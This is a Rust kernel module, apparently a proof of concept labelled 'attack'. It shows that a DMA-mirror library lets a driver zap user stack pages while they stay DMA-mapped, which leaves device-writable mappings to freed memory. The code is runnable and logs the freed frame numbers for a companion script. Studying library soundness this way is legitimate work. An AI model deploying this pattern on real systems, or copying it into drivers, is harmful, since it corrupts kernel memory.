// SPDX-License-Identifier: GPL-2.0
//! Unmaps pages that a device may write, in the closure that has the table of the mirror
//! locked.
//!
//! A page that the device may have written is marked as dirty when it is unmapped for DMA. If
//! this happened after the closure has returned, the page would already be free.
//!
//! A sound library does not touch a freed page. The unsafe call in `probe()` is one of the
//! kernel crate that every driver with DMA makes.
use kernel::{
    device::Core,
    dma::{Device as _, DmaMask},
    driver,
    page::{PAGE_SHIFT, PAGE_SIZE},
    pci,
    prelude::*,
    time::{delay::fsleep, Delta},
};
use tether::mm::{
    dma_mirror::{new_dma_mirror, DmaMirror},
    hmm::Request,
    mirror::MirrorDevice,
    mmu_notifier::{MmuNotifierRange, WouldSleep},
};

const PAGES: usize = 20;
struct Nothing;
impl MirrorDevice for Nothing {
    fn invalidate(&self, _range: &MmuNotifierRange<'_>) {}
    fn try_invalidate(&self, _range: &MmuNotifierRange<'_>) -> Result<(), WouldSleep> {
        Ok(())
    }
}
struct Driver;
#[pin_data]
struct Data {
    _n: u8,
}
kernel::pci_device_table!(
    PCI_TABLE,
    <Driver as pci::Driver>::IdInfo,
    [(pci::DeviceId::from_class(0x00ff00, 0xffff00), ())]
);
impl pci::Driver for Driver {
    type IdInfo = ();
    type Data<'bound> = Data;
    const ID_TABLE: pci::IdTable<Self::IdInfo> = &PCI_TABLE;

    fn probe<'bound>(
        pdev: &'bound pci::Device<Core<'_>>,
        _info: Option<&'bound Self::IdInfo>,
    ) -> impl PinInit<Data, Error> + 'bound {
        pin_init::pin_init_scope(move || {
            // SAFETY: `dma_set_mask_and_coherent()` must not run concurrently with DMA allocations
            // or mappings of the device. `probe()` is the only user of the device, and makes its
            // first mapping below.
            unsafe { pdev.dma_set_mask_and_coherent(DmaMask::new::<64>())? };
            let task = current!();
            let mm = task.mm().ok_or(EINVAL)?;
            // Use the lowest pages of the stack, which the process does not access.
            let page = {
                let locked = mm.mmap_read_lock();
                (1..1usize << 24)
                    .map(|n| 0x7fff_ffff_f000 - n * PAGE_SIZE)
                    .find_map(|address| {
                        locked
                            .vma_lookup(address)
                            .filter(|vma| vma.flags() & kernel::mm::virt::flags::WRITE != 0)
                    })
                    .map(|vma| vma.start())
                    .ok_or(ENOENT)?
            };
            let mirror: Pin<KBox<DmaMirror<Nothing>>> = KBox::pin_init(
                new_dma_mirror!(mm, page, PAGES * PAGE_SIZE, pdev.as_ref(), Nothing),
                GFP_KERNEL,
            )?;
            mirror.fault(mm, page, PAGES, Request::Write, None)?;
            // Wait until guest.sh has dropped the caches: this drains the per-CPU LRU batches,
            // which hold references to the pages.
            pr_info!("dmazap: mapped\n");
            fsleep(Delta::from_secs(3));
            let mut frames = [0u64; PAGES];
            let zapped = mirror.with_addresses(|addresses| {
                for (n, frame) in frames.iter_mut().enumerate() {
                    let mapped = addresses.get(page + n * PAGE_SIZE)?;
                    *frame = mapped.address() >> PAGE_SHIFT;
                }
                let vma = mm.lock_vma_under_rcu(page)?;
                vma.zap_vma_range(page, PAGES * PAGE_SIZE);
                Some(())
            });
            let left = mirror.with_addresses(|addresses| addresses.get(page).is_some());
            pr_info!("dmazap: zapped {:?}, left {}\n", zapped, left);
            pr_info!("dmazap: frames {:?}\n", frames);
            // Keep this CPU idle, so that the freed pages are not allocated again before guest.sh
            // has read their flags.
            fsleep(Delta::from_secs(5));
            Ok(try_pin_init!(Data { _n: 0 }? Error))
        })
    }
}
#[pin_data]
struct DmaZap {
    #[pin]
    _driver: driver::Registration<pci::Adapter<Driver>>,
}
impl kernel::InPlaceModule for DmaZap {
    fn init(module: &'static ThisModule) -> impl PinInit<Self, Error> {
        try_pin_init!(Self {
            _driver <- driver::Registration::new(<Self as kernel::ModuleMetadata>::NAME, module),
        })
    }
}
module! { type: DmaZap, name: "dmazap", authors: ["h"], description: "attack", license: "GPL", }
